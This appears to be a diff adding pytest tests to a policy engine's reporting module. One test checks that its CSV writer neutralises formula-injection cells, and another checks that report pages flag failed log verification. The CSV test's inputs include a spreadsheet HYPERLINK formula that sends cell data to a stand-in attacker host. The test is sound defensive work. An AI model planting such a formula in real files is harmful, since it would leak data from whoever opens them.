@@ -146,6 +146,20 @@ def test_denials_csv_golden(audit_db):
     )
 
 
+@pytest.mark.parametrize(("cell", "written"), [
+    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'),
+    ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tcmd", "'\tcmd"),
+    ("mallory", "mallory"), ("a=b", "a=b"),
+])
+def test_a_text_cell_a_spreadsheet_would_run_is_written_as_text(cell, written):
+    """CSV injection: an actor id chosen by a requester must not become a formula in an auditor's spreadsheet."""
+    from policyengine.reporting.render import csv_writer
+
+    out = io.StringIO()
+    csv_writer(out).writerow([cell, -5, 1.5, None])
+    assert out.getvalue() == f"{written},-5,1.5,\n"
+
+
 def test_params_are_bound(audit_db):
     rows = json.loads(run("report", "decisions_by_rule", "--db", audit_db, "--format", "json",
                          "--param", "since=2026-11-03", "--param", "until=2026-11-04"))
@@ -512,3 +526,17 @@ def test_an_unusable_database_in_a_real_process(bad_dbs, bad, tmp_path):
     db = paths[bad]
     r = pe("query", "SELECT 1", "--db", db.name, cwd=db.parent)
     assert one_error_line(r) == f"error: {db.name}: " + BAD_DBS[bad].format(pid=pid)
+
+
+@pytest.mark.parametrize(("kind", "verified", "box", "verdict"), [
+    ("audit log", False, "provenance bad", "FAILED verification"),
+    ("audit segments", False, "provenance bad", "FAILED verification"),
+    ("audit segments", True, "provenance ok", "verified"),
+    ("CSV file", None, "provenance muted", None),
+])
+def test_a_report_page_says_in_red_when_its_log_or_folder_failed_verification(kind, verified, box, verdict):
+    from policyengine.reporting.provenance import Provenance
+
+    html = Provenance("audit/", kind, verified, "summary").html()
+    assert f"<div class='{box}'>" in html
+    assert (verdict is None and "verif" not in html.split("</p>")[0]) or f">{verdict}</strong>" in html
